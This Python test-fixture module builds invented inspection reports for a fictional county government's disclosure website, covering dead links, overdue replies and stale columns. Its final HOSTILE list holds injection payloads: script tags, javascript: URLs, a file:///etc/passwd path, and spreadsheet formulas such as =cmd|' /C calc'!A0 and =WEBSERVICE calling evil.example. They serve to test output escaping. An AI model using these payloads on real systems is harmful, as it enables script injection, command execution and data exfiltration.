"""Invented inspections for the report tests: realistic in shape and size, no real site behind them."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import date
from typing import Any

from checks.model import Breach, Coverage, Examination, Finding, Judgement, fingerprint
from checks.registry import Check
from reports import ReportBundle
from reports.ledger import LedgerChanges, Mark
from reports.scoring import score_all
from rules.calendar import WorkCalendar
from rules.model import Pack

AS_OF = date(2026, 11, 20)
SITE = "示例县人民政府"
CALENDAR = WorkCalendar(frozenset(), frozenset(), frozenset({2026}))
TERMS = {"veto": 1, "high": 5, "medium": 10, "low": 20, "info": None}

EDUCATION, OFFICE, HOUSING, HEALTH, TOWN, QUIET = (
    "县教育和体育局",
    "县政府办公室",
    "县住房和城乡建设局",
    "县卫生健康局",
    "城关镇人民政府",
    "县档案馆",
)


def pack(
    pack_id: str = "shili-2026",
    title: str = "2026年示例县政务公开工作要点",
    *,
    indicators: list[dict[str, Any]] | None = None,
    vetoes: list[dict[str, Any]] | None = None,
    clauses: list[dict[str, Any]] | None = None,
) -> Pack:
    return Pack.model_validate(
        {
            "document": {
                "id": pack_id,
                "title": title,
                "issuer": "示例县人民政府办公室",
                "doc_number": "示政办字〔2026〕12号",
                "issued": "2026-03-18",
                "year": 2026,
                "source": "示例",
            },
            "clauses": CLAUSES if clauses is None else clauses,
            "indicators": INDICATORS if indicators is None else indicators,
            "vetoes": VETOES if vetoes is None else vetoes,
        }
    )


CLAUSES: list[dict[str, Any]] = [
    {
        "id": "4.1",
        "section": "四（一）加强平台建设",
        "quote": "加强日常监测，杜绝信息缺失和错链、死链等问题",
        "responsible": ["县政府办公室", "县政府各部门"],
        "observability": "auto",
        "severity": "medium",
    },
    {
        "id": "4.2",
        "section": "四（二）扎实搞好政民互动",
        "quote": "对公众意见、建议和批评须在5个工作日内认真答复",
        "responsible": ["县政府各部门", "各镇人民政府"],
        "observability": "auto",
        "severity": "high",
    },
    {
        "id": "2.3",
        "section": "二（三）深化政策解读",
        "quote": "政策文件与解读材料同步组织、同步审签、同步部署，解读方案一般与政策文件同步起草",
        "responsible": ["各文件起草单位"],
        "deadline": "2026-12-31",
        "observability": "auto",
        "severity": "high",
    },
    {
        "id": "1.2",
        "section": "一（二）完善信息公开属性源头认定",
        "quote": "公文办理时应当明确主动公开、依申请公开、不予公开等属性",
        "responsible": [],
        "observability": "auto",
        "severity": "medium",
    },
    {
        "id": "4.5",
        "section": "四（五）栏目维护",
        "quote": "不得出现空白栏目，应更新未更新的栏目要及时更新",
        "responsible": ["县政府各部门"],
        "observability": "auto",
        "severity": "high",
    },
]
INDICATORS: list[dict[str, Any]] = [
    {
        "id": "i1",
        "title": "链接可用",
        "points": 20,
        "checks": ["dead-link", "wrong-link"],
        "deduction": {"high": 2, "medium": 1, "low": 0.1},
        "cap": 10,
    },
    {
        "id": "i2",
        "title": "栏目更新",
        "points": 25,
        "checks": ["stale-column", "empty-column"],
        "deduction": {"each": 5},
    },
    {
        "id": "i3",
        "title": "政策解读",
        "points": 20,
        "checks": ["interpretation-missing"],
        "deduction": {"each": 4},
    },
    {
        "id": "i4",
        "title": "来信答复",
        "points": 20,
        "checks": ["reply-overdue"],
        "deduction": {"high": 5, "medium": 3},
    },
    {
        "id": "i5",
        "title": "公开属性",
        "points": 10,
        "checks": ["disclosure-attribute-missing"],
        "deduction": {"each": 0.5},
        "cap": 6,
    },
    {
        "id": "i6",
        "title": "年度报告",
        "points": 5,
        "checks": ["annual-report-missing"],
        "deduction": {"each": 5},
    },
]
VETOES: list[dict[str, Any]] = [
    {"id": "v1", "title": "空白栏目五个以上", "checks": ["empty-column"], "at_least": 5},
]
SECTIONS = {
    "dead-link": (
        "死链",
        "恢复该页面，或把链接改到现在的地址；确已撤下的，删去链接。改后在浏览器里点开一次，确认能打开。",
    ),
    "wrong-link": ("错链", "把链接改到应到的地址；内网地址不要写进对外网页。"),
    "stale-column": ("栏目长期不更新", "补充发布应更新的内容；职能已调整、不再更新的栏目，归并或下线。"),
    "empty-column": ("空白栏目", "发布内容，或将空白栏目下线。"),
    "interpretation-missing": (
        "政策文件没有解读",
        "由起草单位编写解读材料，与文件相互链接；图表、问答均可，不得照抄文件。",
    ),
    "reply-overdue": ("来信超期未答复", "立即答复来信人并公开答复；不能按时办结的，先告知办理进展。"),
    "disclosure-attribute-missing": (
        "文件未标公开属性",
        "在文件的信息表中标明主动公开、依申请公开或不予公开。",
    ),
}
CLAUSE_OF = {
    "dead-link": "4.1",
    "wrong-link": "4.1",
    "stale-column": "4.5",
    "empty-column": "4.5",
    "interpretation-missing": "2.3",
    "reply-overdue": "4.2",
    "disclosure-attribute-missing": "1.2",
}


def checks() -> dict[str, Check]:
    return {
        name: Check(name, title, {"依据": "", "判定": "", "不判定": "", "整改": remedy}, None, None)  # type: ignore[arg-type]
        for name, (title, remedy) in SECTIONS.items()
    }


def whole(text: str) -> str:
    return text.encode("utf-8", "replace").decode("utf-8")


def finding(
    check: str,
    url: str,
    message: str,
    *,
    target: str | None = None,
    department: str | None = None,
    severity: str = "medium",
    packs: tuple[str, ...] = ("shili-2026",),
    clause: str | None = None,
    **more: Any,
) -> Finding:
    clause = clause or CLAUSE_OF.get(check, "4.1")
    return Finding(
        fingerprint=fingerprint(check, SITE, whole(url), target and whole(target), more.get("locator", "")),
        check=check,
        url=url,
        target=target,
        column=more.pop("column", None),
        department=department,
        clauses=[clause],
        severity=severity,  # type: ignore[arg-type]
        confidence=more.pop("confidence", "certain"),
        message=message,
        verdict=more.pop("verdict", "fail"),
        evidence=more.pop("evidence", {}),
        breaches=[
            Breach(pack=name, clause=clause, message=message, severity=severity)
            for name in packs  # type: ignore[arg-type]
        ],
        **more,
    )


def examination(
    check: str, department: str | None, examined: int, *, pack: str = "shili-2026", **more: int
) -> Examination:
    return Examination(
        pack=pack,
        clause=CLAUSE_OF.get(check, "4.1"),
        check=check,
        department=department,
        examined=examined,
        **more,
    )


def dated(found: list[Finding], as_of: date = AS_OF, calendar: WorkCalendar = CALENDAR) -> LedgerChanges:
    """Fill dates as a ledger would; statuses and first days already given stay."""
    terms = {}
    for item in found:
        item.first_seen = item.first_seen or as_of.isoformat()
        allowed = TERMS[item.severity]
        if item.verdict == "fail" and allowed is not None:
            item.due = calendar.add(date.fromisoformat(item.first_seen), allowed).isoformat()
            terms[item.due] = calendar.count(as_of, date.fromisoformat(item.due))
    return LedgerChanges(findings=found, terms=dict(sorted(terms.items())))


def bundle(
    found: list[Finding],
    examined: list[Examination],
    *,
    packs: list[Pack] | None = None,
    coverage: Coverage | None = None,
    notes: list[str] | None = None,
    fixed: list[Finding] | None = None,
    departments: tuple[str, ...] = (),
    marks: Sequence[Mark] = (),
) -> ReportBundle:
    packs = packs or [pack()]
    judgement = Judgement(
        findings=found,
        examinations=examined,
        notes=notes or [],
        coverage=coverage
        or Coverage(
            pages_known=100, pages_read=97, columns=8, documents=40, letters=12, links=950, ratio=0.97
        ),
    )
    changes = dated(found)
    changes.fixed = fixed or []
    return ReportBundle(
        site=SITE,
        run_id="20261120-0130",
        as_of=AS_OF,
        plan_year=2026,
        packs=packs,
        judgement=judgement,
        scores=score_all(judgement, packs, departments, marks),
        changes=changes,
        checks=checks(),
    )


def small(marks: Sequence[Mark] = ()) -> ReportBundle:
    """A county with a finding of every kind; departments, a town, one unit without subjects."""
    base = "http://www.shili.example"
    found = [
        finding(
            "reply-overdue",
            f"{base}/hdjl/xjxd/202609/t20260918_1021.html",
            "该信件 2026-09-18 收到，至 2026-11-20 未答复，已超 5 个工作日时限 36 个工作日",
            department=EDUCATION,
            severity="high",
            column="县长信箱",
            first_seen="2026-10-09",
            status="open",
            evidence={
                "received": "2026-09-18",
                "working_days": 41,
                "limit": 5,
                "excerpt": "关于城区幼儿园学位不足问题的反映",
                "sha256": "3f0c" * 16,
            },
        ),
        finding(
            "interpretation-missing",
            f"{base}/zwgk/zcwj/202610/t20261012_2210.html",
            "《示例县普惠性民办幼儿园认定办法》2026-10-12 公开，至 2026-11-20 已 39 天，没有解读材料",
            department=EDUCATION,
            severity="high",
            column="政策文件",
            confidence="review",
            evidence={
                "title": "示例县普惠性民办幼儿园认定办法",
                "published": "2026-10-12",
                "days": 39,
                "sources": [{"url": f"{base}/zwgk/zcjd/", "items": 63}],
            },
        ),
        finding(
            "dead-link",
            f"{base}/zwgk/index.html",
            "首页“部门链接”中的该地址打不开：两次探测均返回 404",
            target="http://jtj.shili.example/old/2019/list.asp?id=17&cls=%D7%A8",
            department=EDUCATION,
            severity="medium",
            evidence={
                "statuses": [404, 404],
                "sources": [f"{base}/zwgk/index.html", f"{base}/jtj/index.html"],
                "count": 312,
            },
        ),
        finding(
            "dead-link",
            f"{base}/zwgk/tzgg/",
            "附件地址 503，单次探测未能确认",
            target=f"{base}/files/2026/附件1.docx",
            department=OFFICE,
            verdict="unverified",
            severity="low",
            evidence={"status": 503},
        ),
        finding(
            "stale-column",
            f"{base}/zwgk/gzdt/",
            "“工作动态”栏目最近一次更新为 2026-10-02，至 2026-11-20 已 49 天，超过 14 天",
            department=OFFICE,
            severity="high",
            column="工作动态",
            status="reopened",
            first_seen="2026-11-06",
            evidence={"newest": "2026-10-02", "days": 49, "limit": 14, "items": 120},
        ),
        finding(
            "disclosure-attribute-missing",
            f"{base}/zwgk/zcwj/202608/t20260803_1900.html",
            "该文件信息表没有公开属性",
            department=TOWN,
            severity="medium",
            evidence={"labels": ["索引号", "发文机关", "成文日期"]},
        ),
        finding(
            "empty-column",
            f"{base}/zwgk/zdjc/",
            "“重大决策”栏目没有任何内容",
            severity="high",
            column="重大决策",
        ),
    ]
    examined = [
        examination("reply-overdue", EDUCATION, 12, failed=1),
        examination("reply-overdue", OFFICE, 20),
        examination("interpretation-missing", EDUCATION, 6, review=1),
        examination("dead-link", EDUCATION, 340, failed=1),
        examination("dead-link", OFFICE, 610, unverified=1),
        examination("dead-link", TOWN, 88),
        examination("stale-column", OFFICE, 9, failed=1),
        examination("stale-column", TOWN, 3),
        examination("stale-column", None, 2),
        examination("empty-column", None, 14, failed=1),
        examination("disclosure-attribute-missing", TOWN, 21, failed=1),
        examination("disclosure-attribute-missing", OFFICE, 32),
        examination("dead-link", HEALTH, 51),
        examination("reply-overdue", HEALTH, 4),
    ]
    mended = finding(
        "dead-link",
        f"{base}/zwgk/",
        "该地址打不开：404",
        target=f"{base}/zwgk/old.html",
        department=OFFICE,
        status="fixed",
        first_seen="2026-10-09",
    )
    return bundle(
        found,
        examined,
        fixed=[mended],
        departments=(QUIET,),
        marks=marks,
        coverage=Coverage(
            pages_known=1240,
            pages_read=1203,
            files=96,
            links=18342,
            external=410,
            columns=31,
            documents=268,
            letters=32,
            unverified=1,
            ratio=1203 / 1240,
            uninspected=[
                "37 个页面未能读取：其中 25 个返回 403（疑似防护拦截），12 个超时",
                "“通知公告”等 2 个栏目的列表由脚本加载，未启用浏览器，未检查其更新",
            ],
        ),
        notes=["2027 年节假日安排尚未公布，涉及该年的期限暂按推定"],
    )


def large(count: int = 20_000, departments: int = 40) -> ReportBundle:
    """Many findings, spread unevenly over departments and checks."""
    names = [f"县第{n}局" if n % 3 else f"第{n}镇" for n in range(departments)]
    kinds = list(SECTIONS)
    severities = ("high", "medium", "low", "info")
    found = [
        finding(
            kinds[n % 5 if n % 7 else 5],
            f"http://www.shili.example/zwgk/{n % 97}/t2026{n % 12 + 1:02d}01_{n}.html",
            f"第 {n} 处：该地址打不开，两次探测均返回 404，另有 {n % 311} 个页面链接它",
            target=f"http://old.shili.example/a/{n}.html",
            department=names[(n * n) % departments] if n % 11 else None,
            severity=severities[n % 4],
            confidence="review" if n % 13 == 0 else "certain",
            verdict="unverified" if n % 17 == 0 else "fail",
            evidence={
                "statuses": [404, 404],
                "count": n % 311,
                "sources": [f"http://www.shili.example/{k}/" for k in range(5)],
            },
        )
        for n in range(count)
    ]
    examined = [examination(kind, name, 100) for kind in kinds for name in [*names, None]]
    return bundle(found, examined, packs=[pack(), pack("guojia-2019", "国家政务公开检查指标")])


HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "{{7*7}}{% raw %}",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>",
    "]]><script>alert(1)</script>",
    "<r><t>rich</t></r>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'http://ok.example/"onmouseover="alert(1)',
    "http://ok.example/<script>",
    "http://[::1",
    "http://ok.example/%00",
    "http://ok.example/\u202egnp.exe",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","点")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    " =1+1",
    '="a"',
    "%0a=1+1",
    '=WEBSERVICE("http://evil.example")',
    "'=1+1",
    "#N/A",
    "\u202e倒序\u202c",
    "\u2066隔离\u2069",
    "\x00\x01\x07控制",
    "\x1b[31m红",
    "\ud800孤",
    "\ufffe非",
    "a" * 100_000,
    "字" * 40_000,
    "&lt;b&gt;&amp;",
    "\u2028分行",
    "_x003D_1+1",
    "😀" * 20_000,
    "\ufeff开头",
)


def hostile() -> ReportBundle:
    """A finding for every hostile string, in every field that comes from a page."""
    found = [
        finding(
            "dead-link",
            text,
            text,
            target=text,
            department=text[:300],
            column=text,
            locator=str(number),
            evidence={"excerpt": text, text[:50]: [text, {"k": text}]},
        )
        for number, text in enumerate(HOSTILE)
    ]
    return bundle(
        found, [examination("dead-link", item.department, 3) for item in found], notes=list(HOSTILE)
    )
